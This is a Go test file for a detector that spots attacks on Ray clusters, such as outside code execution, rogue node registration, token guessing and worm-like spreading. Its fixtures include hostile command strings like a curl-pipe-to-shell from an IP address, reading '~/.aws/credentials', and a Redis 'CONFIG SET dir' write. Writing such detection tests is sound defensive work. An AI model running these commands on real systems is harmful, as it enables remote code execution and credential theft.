package raygrpc

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/decoders/http"
	"github.com/raytap/raytap/decoders/http2"
	"github.com/raytap/raytap/decoders/rayredis"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/detectors/detectortest"
	"github.com/raytap/raytap/interpreters/ray"
	"github.com/raytap/raytap/interpreters/raygrpc"
)

const (
	attacker = "203.0.113.66"
	head     = "10.20.0.10"
	node     = "10.20.0.11"
	dev      = "10.20.0.20"
	far      = "10.99.0.5"
)

// flow is one of src to a port of dst.
func flow(src, dst string, port uint16) *capture.Flow {
	return &capture.Flow{UID: fmt.Sprint("C", src, dst, port), Proto: capture.ProtoTCP,
		Orig: netip.AddrPortFrom(netip.MustParseAddr(src), 40000), Resp: netip.AddrPortFrom(netip.MustParseAddr(dst), port)}
}

func when(sec float64) capture.At {
	return capture.At{Time: 1e18 + capture.Time(sec*1e9), Packet: 100 + uint64(sec*10)}
}

// call is one that worked.
func call(sec float64, src, dst string, s raygrpc.Service, method string, class raygrpc.Class, change ...func(*raygrpc.Call)) *raygrpc.Call {
	port := uint16(6379)
	if s == raygrpc.Client {
		port = 10001
	} else if s != raygrpc.GCS {
		port = 38231
	}
	out := raygrpc.Answered
	if class == raygrpc.Exec || class == raygrpc.Write {
		out = raygrpc.Executed
	}
	f := flow(src, dst, port)
	c := &raygrpc.Call{At: when(sec), Flow: f, Service: s, Method: method, Class: class, Outcome: out, Auth: "none",
		GRPC: &http2.Call{At: when(sec), Flow: f, GRPC: true}}
	for _, x := range change {
		x(c)
	}
	return c
}

func outcome(o raygrpc.Outcome) func(*raygrpc.Call) { return func(c *raygrpc.Call) { c.Outcome = o } }

func kvPut(sec float64, src, dst string) *raygrpc.Call {
	return call(sec, src, dst, raygrpc.GCS, "InternalKVGcsService/InternalKVPut", raygrpc.Exec, func(c *raygrpc.Call) { c.Namespace, c.Key = "fun", "x" })
}

func register(sec float64, src, dst, says string) *raygrpc.Call {
	return call(sec, src, dst, raygrpc.GCS, "NodeInfoGcsService/RegisterNode", raygrpc.Write, func(c *raygrpc.Call) { c.Node = netip.MustParseAddr(says) })
}

func task(sec float64, src, dst string) *raygrpc.Call {
	return call(sec, src, dst, raygrpc.Client, "RayletDataStreamer/Datapath", raygrpc.Exec, func(c *raygrpc.Call) { c.Operations, c.Function = []string{"task"}, "run" })
}

func token(sec float64, src string, n int, o raygrpc.Outcome) *raygrpc.Call {
	return call(sec, src, head, raygrpc.GCS, "NodeInfoGcsService/GetAllNodeInfo", raygrpc.State, outcome(o), func(c *raygrpc.Call) {
		c.Auth, c.TokenHash = "bearer", fmt.Sprintf("%016x", n)
	})
}

func job(sec float64, src, dst string) *ray.Call {
	f := flow(src, dst, 8265)
	return &ray.Call{At: when(sec), Flow: f, Tx: &http.Transaction{At: when(sec), Flow: f}, Service: ray.Dashboard, Class: ray.Exec, Job: true, Confirmed: true,
		Entrypoint: "x", Outcome: ray.Executed, Client: ray.Tool}
}

// logins are of a Ray host at three clusters; of another time with other tokens.
func logins(sec float64) []any {
	evs := []any{}
	for _, dst := range []string{"192.0.2.1", "192.0.2.2", "192.0.2.3"} {
		c := answers(sec, head, dst)
		c.Auth, c.TokenHash = "bearer", fmt.Sprintf("%016x", int(sec)+1)
		evs = append(evs, c)
	}
	return append(evs, answers(sec, dev, head))
}

// spreads are jobs that it hands to them.
func spreads(sec float64) []any {
	return []any{job(sec, head, "192.0.2.1"), job(sec+1, head, "192.0.2.2"), job(sec+2, head, "192.0.2.3")}
}

// answers makes dst known as a Ray.
func answers(sec float64, src, dst string) *ray.Call {
	c := job(sec, src, dst)
	c.Job, c.Class, c.Outcome = false, ray.Info, ray.Answered
	return c
}

// watch publishes events in order, then the end of every flow.
func watch(t *testing.T, evs ...any) []*detectors.Finding {
	t.Helper()
	bus := detectortest.New(Spec(), nil)
	var flows []*capture.Flow
	for _, e := range evs {
		if c, ok := e.(*raygrpc.Call); ok {
			bus.Publish(c.GRPC)
			flows = append(flows, c.Flow)
		}
		bus.Publish(e)
	}
	for _, f := range flows {
		bus.Publish(&capture.Conn{At: when(30), Flow: f})
	}
	for _, f := range bus.Found {
		if f.Msg == "" || len(f.Evidence) == 0 || !f.Src.IsValid() || f.Packet == 0 {
			t.Errorf("incomplete: %+v", f)
		}
		for _, e := range f.Evidence {
			if e.Packet == 0 || e.Field == "" || len(e.Value) > 1024 {
				t.Errorf("%s: evidence %+v", f.Rule, e)
			}
		}
	}
	return bus.Found
}

func say(list []*detectors.Finding) string {
	var s []string
	for _, f := range list {
		s = append(s, fmt.Sprintf("%s %s %s (%s)", f.Severity, f.Rule, f.Msg, f.Outcome))
	}
	return strings.Join(s, "\n  ")
}

func TestRulesSpeakAndNearMissesAreQuiet(t *testing.T) {
	calls := func(name ...string) func(*raygrpc.Call) { return func(c *raygrpc.Call) { c.Calls = name } }
	code := func(cmd string) func(*raygrpc.Call) {
		return func(c *raygrpc.Call) { c.Uses, c.Commands = []string{"subprocess.run"}, []string{cmd} }
	}
	put := func(sec float64, src string, change ...func(*raygrpc.Call)) *raygrpc.Call {
		return call(sec, src, head, raygrpc.Client, "RayletDataStreamer/Datapath", raygrpc.Exec, append(change, func(c *raygrpc.Call) { c.Operations = []string{"put"} })...)
	}
	mid := func(c *raygrpc.Call) { c.GRPC.Mid = true }
	for _, x := range []struct {
		name string
		evs  []any
		want []string // "severity rule", in order; nothing else at medium or above
	}{
		{"outsider runs a function", []any{task(0, attacker, head)}, []string{"critical rayclient/external"}},
		{"outsider's function, no answer", []any{call(0, attacker, head, raygrpc.Client, "RayletDataStreamer/Datapath", raygrpc.Exec, outcome(raygrpc.Unseen))}, []string{"high rayclient/external"}},
		{"outsider is refused", []any{call(0, attacker, head, raygrpc.Client, "RayletDriver/Init", raygrpc.Exec, outcome(raygrpc.NoToken))}, []string{"medium rayclient/external"}},
		{"user inside", []any{task(0, dev, head)}, nil},
		{"pickle that runs at once, from outside", []any{put(0, attacker, calls("posix.system"))}, []string{"critical rayclient/dropper", "critical rayclient/external"}},
		{"pickle that runs at once, from inside", []any{put(0, dev, calls("posix.system"))}, []string{"high rayclient/dropper"}},
		{"function that fetches from an address, from inside", []any{put(0, dev, code("curl -s http://198.51.100.77/run | sh"))}, []string{"high rayclient/dropper"}},
		{"function that downloads data, from inside", []any{put(0, dev, code("wget https://data.example.com/set.tar"))}, nil},
		{"function that waits for a database, from inside", []any{put(0, dev, code("nc -z 10.20.0.30 5432; timeout 1 bash -c '</dev/tcp/10.20.0.30/80' && base64 -d <<< aGVsbG8="))}, nil},
		{"function that runs a maker's installer, from inside", []any{put(0, dev, code("curl -LsSf https://astral.sh/uv/install.sh | sh"))}, nil},
		{"function whose documentation has a command, from inside", []any{put(0, dev, code("Never run curl http://198.51.100.77/x | sh here."))}, nil},
		{"function that runs a script of somebody's repository, from outside", []any{put(0, attacker, code("curl -s https://raw.githubusercontent.com/a/b/main/x.sh | bash"))}, []string{"critical rayclient/dropper", "critical rayclient/external"}},
		{"function that reads keys, from outside", []any{put(0, attacker, code("cat ~/.aws/credentials"))}, []string{"critical rayclient/dropper", "critical rayclient/external"}},
		{"function that lists files, from inside", []any{put(0, dev, code("ls -l /data"))}, nil},
		{"outsider reads the GCS", []any{call(0, attacker, head, raygrpc.GCS, "InternalKVGcsService/InternalKVGet", raygrpc.State)}, []string{"medium gcs/external"}},
		{"outsider writes code", []any{kvPut(0, attacker, head)}, []string{"critical gcs/external"}},
		{"outsider runs a task on a worker", []any{call(0, attacker, node, raygrpc.Worker, "CoreWorkerService/PushTask", raygrpc.Exec)}, []string{"critical rayagent/direct"}},
		{"stranger inside writes code", []any{kvPut(0, dev, head)}, []string{"medium gcs/stranger"}},
		{"stranger inside reads the status", []any{call(0, dev, head, raygrpc.GCS, "InternalKVGcsService/InternalKVGet", raygrpc.State)}, nil},
		{"node that registered", []any{register(0, node, head, node), kvPut(1, node, head)}, nil},
		{"node whose proof comes behind", []any{kvPut(0, node, head), call(3, node, head, raygrpc.GCS, "WorkerInfoGcsService/AddWorkerInfo", raygrpc.Write)}, nil},
		{"proof that comes too late", []any{kvPut(0, dev, head), call(15, head, node, raygrpc.Worker, "CoreWorkerService/GetCoreWorkerStats", raygrpc.State, mid),
			call(16, dev, head, raygrpc.GCS, "WorkerInfoGcsService/AddWorkerInfo", raygrpc.Write)}, []string{"medium gcs/stranger"}},
		{"driver that added its job", []any{call(0, dev, head, raygrpc.GCS, "JobInfoGcsService/AddJob", raygrpc.Write), kvPut(1, dev, head)}, nil},
		{"node that was connected before", []any{call(0, node, head, raygrpc.GCS, "", raygrpc.State, mid), kvPut(1, node, head)}, nil},
		{"outsider's function between nodes", []any{task(0, attacker, head), call(1, head, node, raygrpc.Worker, "CoreWorkerService/PushTask", raygrpc.Exec, calls("posix.system"))},
			[]string{"critical rayclient/external"}},
		{"stranger inside runs a task on a worker", []any{call(0, dev, node, raygrpc.Worker, "CoreWorkerService/PushTask", raygrpc.Exec)}, []string{"high rayagent/direct"}},
		{"node from outside", []any{register(0, attacker, head, attacker)}, []string{"critical raynode/foreign"}},
		{"node that says it is outside", []any{register(0, dev, head, attacker)}, []string{"critical raynode/foreign"}},
		{"node of another network", []any{register(0, far, head, far)}, []string{"medium raynode/foreign"}},
		{"node of another pod network of OpenShift", []any{register(0, "10.130.2.5", "10.128.2.9", "10.130.2.5")}, nil},
		{"node of a pod network of EKS", []any{register(0, "100.99.2.5", "100.64.2.9", "100.99.2.5")}, nil},
		{"node of the site's other end", []any{register(0, "10.99.2.5", "10.20.2.9", "10.99.2.5")}, []string{"medium raynode/foreign"}},
		{"node of the next rack", []any{register(0, "10.20.7.5", head, "10.20.7.5")}, nil},
		{"five tokens", []any{token(0, dev, 1, raygrpc.NoToken), token(1, dev, 2, raygrpc.NoToken), token(2, dev, 3, raygrpc.NoToken), token(3, dev, 4, raygrpc.NoToken), token(4, dev, 5, raygrpc.NoToken)},
			[]string{"medium raytoken/guessing"}},
		{"five tokens, and the right one", []any{token(0, dev, 1, raygrpc.NoToken), token(1, dev, 2, raygrpc.NoToken), token(2, dev, 3, raygrpc.NoToken), token(3, dev, 4, raygrpc.NoToken), token(4, dev, 5, raygrpc.NoToken), token(5, dev, 6, raygrpc.Answered)},
			[]string{"medium raytoken/guessing", "high raytoken/guessing"}},
		{"one old token, again and again", []any{token(0, dev, 1, raygrpc.NoToken), token(1, dev, 1, raygrpc.NoToken), token(2, dev, 1, raygrpc.NoToken), token(3, dev, 1, raygrpc.NoToken), token(4, dev, 1, raygrpc.NoToken), token(5, dev, 2, raygrpc.Answered)}, nil},
		{"worm", []any{job(0, attacker, head), job(1, head, "192.0.2.1"), job(2, head, "192.0.2.2"), job(3, head, "192.0.2.3")}, []string{"critical ray/worm"}},
		{"worm over Ray Client", []any{task(0, attacker, head), task(1, head, "192.0.2.1"), task(2, head, "192.0.2.2"), task(3, head, "192.0.2.3")}, []string{"critical rayclient/external", "critical ray/worm"}},
		{"Ray host that hands on, with nothing seen before", []any{answers(0, dev, head), job(1, head, "192.0.2.1"), job(2, head, "192.0.2.2"), job(3, head, "192.0.2.3")}, []string{"high ray/worm"}},
		{"driver of three clusters with tokens and a history", append(logins(0), spreads(700)...), nil},
		{"tokens without a history", append(logins(0), spreads(60)...), []string{"high ray/worm"}},
		{"tokens that have changed", append(append(logins(0), logins(690)[:3]...), spreads(700)...), []string{"high ray/worm"}},
		{"the same, but it was given code itself", append(append(logins(0), job(699, attacker, head)), spreads(700)...), []string{"critical ray/worm"}},
		{"user of three clusters", []any{job(1, dev, "192.0.2.1"), job(2, dev, "192.0.2.2"), job(3, dev, "192.0.2.3")}, nil},
		{"Ray host with two targets", []any{answers(0, dev, head), job(1, head, "192.0.2.1"), job(2, head, "192.0.2.2"), job(3, head, "192.0.2.1")}, nil},
		{"Serve's users", []any{call(0, attacker, head, raygrpc.Serve, "RayServeAPIService/Healthz", raygrpc.Info)}, nil},
	} {
		var got []string
		list := watch(t, x.evs...)
		for _, f := range list {
			if f.Severity >= detectors.Medium {
				got = append(got, f.Severity.String()+" "+f.Rule)
			}
		}
		if strings.Join(got, "; ") != strings.Join(x.want, "; ") {
			t.Errorf("%s: %v, want %v\n  %s", x.name, got, x.want, say(list))
		}
	}
}

// The GCS of a Ray before 1.11 is a Redis.
func TestOldGCSFromOutside(t *testing.T) {
	command := func(sec float64, src, name, key string, class rayredis.Class, o rayredis.Outcome) *rayredis.Call {
		return &rayredis.Call{At: when(sec), Flow: flow(src, head, 6379), Command: name, Key: key, Class: class, Outcome: o, Auth: "default"}
	}
	found := watch(t, command(1, attacker, "AUTH", "", rayredis.Info, rayredis.Answered))
	if len(found) != 1 || found[0].Rule != "gcs/external" || found[0].Severity != detectors.High || !strings.Contains(found[0].Msg, "before 1.11") {
		t.Errorf("a log-in with Ray's own password:\n  %s", say(found))
	}
	found = watch(t, command(1, attacker, "CONFIG", "SET dir", rayredis.Exec, rayredis.Executed))
	if len(found) != 1 || found[0].Severity != detectors.Critical {
		t.Errorf("where Redis writes its file was changed:\n  %s", say(found))
	}
	found = watch(t, command(1, attacker, "CONFIG", "SET dir", rayredis.Exec, rayredis.NoToken))
	if len(found) != 1 || found[0].Severity != detectors.Medium || found[0].Outcome != detectors.Attempted {
		t.Errorf("and was refused:\n  %s", say(found))
	}
	// Drivers and workers inside do nothing else all day.
	if found = watch(t, command(1, node, "HSET", "RemoteFunction:1", rayredis.Exec, rayredis.Executed)); len(found) != 0 {
		t.Errorf("from inside:\n  %s", say(found))
	}
}

func TestSentences(t *testing.T) {
	for _, x := range []struct {
		ev   any
		want string
	}{
		{task(0, attacker, head), "203.0.113.66 ran the function run on the Ray cluster at 10.20.0.10:10001"},
		{kvPut(0, attacker, head), "203.0.113.66 wrote the key fun/x, from which workers load code, on the GCS at 10.20.0.10:6379"},
		{kvPut(0, dev, head), "10.20.0.20, which is no node and no driver of the cluster, wrote the key fun/x, from which workers load code, on the GCS at 10.20.0.10:6379"},
		{register(0, attacker, head, attacker), "203.0.113.66, outside the home networks, registered a node at the GCS at 10.20.0.10:6379"},
		{call(0, attacker, head, raygrpc.Client, "RayletDriver/Init", raygrpc.Exec, outcome(raygrpc.NoToken)), "203.0.113.66 tried to open a Ray Client session on 10.20.0.10:10001 (refused for want of a token)"},
	} {
		list := watch(t, x.ev)
		if len(list) != 1 || list[0].Msg != x.want {
			t.Errorf("%s\nwant %s", say(list), x.want)
		}
	}
}

// Whatever comes, the tables stay within their bounds.
func TestTablesAreBounded(t *testing.T) {
	home := detectortest.Home()
	d := &detector{env: &detectors.Env{Home: home}, bus: detectors.NewBus(func(*detectors.Finding) {})}
	d.members.Limit, d.before.Limit, d.rays.Limit = maxMembers, maxPairs, maxHosts
	d.took.Limit, d.tries.Limit, d.spread.Limit = maxHosts, maxGuess, maxHosts
	for i := range 9_000 {
		src := netip.AddrFrom4([4]byte{10, byte(i >> 16), byte(i >> 8), byte(i)}).String()
		d.call(register(0, src, head, src))
		d.call(kvPut(0, netip.AddrFrom4([4]byte{172, 16, byte(i >> 8), byte(i)}).String(), head))
		d.call(token(0, src, i, raygrpc.NoToken))
		d.call(task(0, attacker, src))
		d.call(task(0, src, attacker))
	}
	if d.members.Len() > maxMembers || d.tries.Len() > maxGuess || d.took.Len() > maxHosts || d.spread.Len() > maxHosts || len(d.wait) > maxHeld {
		t.Errorf("%d %d %d %d %d", d.members.Len(), d.tries.Len(), d.took.Len(), d.spread.Len(), len(d.wait))
	}
}
